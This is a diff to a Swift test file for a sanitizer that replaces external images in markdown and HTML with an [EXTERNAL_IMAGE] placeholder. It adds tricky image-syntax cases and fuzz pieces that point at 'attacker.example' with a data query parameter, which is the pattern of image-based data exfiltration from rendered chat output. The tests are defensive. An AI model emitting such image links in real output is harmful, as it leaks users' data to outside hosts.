@@ -58,6 +58,12 @@ import Testing
         (#"<svg><image href="https://attacker.example/i.png"/></svg>"#, [], "<svg>[EXTERNAL_IMAGE]</svg>"),
         (#"<img src="/static/p.gif"> and <img src="https://cdn.example.com/p.gif">"#, ["cdn.example.com"],
          #"<img src="/static/p.gif"> and <img src="https://cdn.example.com/p.gif">"#),
+        // Code spans and tags bind tighter than the alt text's brackets; an image after one that never closes is read.
+        ("![`]`](https://attacker.example/?d=1)", [], "[EXTERNAL_IMAGE]"),
+        ("![a <span title=\"]\">](https://attacker.example/?d=1)", [], "[EXTERNAL_IMAGE]"),
+        ("![a <b](https://attacker.example/?d=1) c>", [], "[EXTERNAL_IMAGE] c>"),
+        ("![a ![b](https://attacker.example/?d=1)", [], "![a [EXTERNAL_IMAGE]"),
+        ("[x] ![a ![b](https://cdn.example.com/ok.png) c](https://attacker.example/?d=1)", ["cdn.example.com"], "[x] [EXTERNAL_IMAGE]"),
         // Not images: links, code, comparisons, an image never closed, an anchor tag.
         ("[docs](https://attacker.example/)", [], "[docs](https://attacker.example/)"),
         ("if ![1, 2].contains(x) { return }", [], "if ![1, 2].contains(x) { return }"),
@@ -119,7 +125,8 @@ import Testing
     @Test(arguments: [1, 2, 3, 4])
     func randomMarkupStreamsAsItReadsWhole(seed: UInt64) {
         let pieces = ["![", "](", ")", "[", "]", "]: ", "https://attacker.example/x?d=1", "https://cdn.example.com/a.png", "<img src=", "<img", "\"", "'",
-                      ">", " ", "\n", "\n\n", "word", "!", "<", "(", "//", "\\", ":", "<", "srcset=", "a.png 1x,", "\\"]
+                      ">", " ", "\n", "\n\n", "word", "!", "<", "(", "//", "\\", ":", "<", "srcset=", "a.png 1x,", "\\", "`", "``", "<b>",
+                      "<span title=\"]\">"]
         var random = Seeded(seed)
         for _ in 0..<300 {
             let text = (0..<random.next(40)).map { _ in pieces[random.next(pieces.count)] }.joined()
